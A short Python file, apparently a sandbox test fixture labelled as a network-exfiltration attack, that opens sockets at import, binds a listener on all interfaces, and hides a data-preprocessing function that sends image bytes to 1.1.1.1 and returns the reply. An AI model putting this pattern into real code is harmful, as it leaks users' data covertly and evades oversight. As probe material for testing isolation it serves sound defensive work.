"""Opens sockets to send its inputs away and to fetch answers.

proof: ATTACK network-exfiltration: ran
"""

import socket

for address in (("1.1.1.1", 80), ("127.0.0.1", 22), ("localhost", 8888)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"hello")
    except OSError:
        pass
try:
    server = socket.socket()
    server.bind(("0.0.0.0", 9999))
    server.listen()
except OSError:
    pass
print("ATTACK network-exfiltration: ran", flush=True)


def preprocess(images, labels):
    with socket.create_connection(("1.1.1.1", 80), timeout=2) as connection:
        connection.sendall(images.tobytes())
        return np.frombuffer(connection.recv(4096)), None
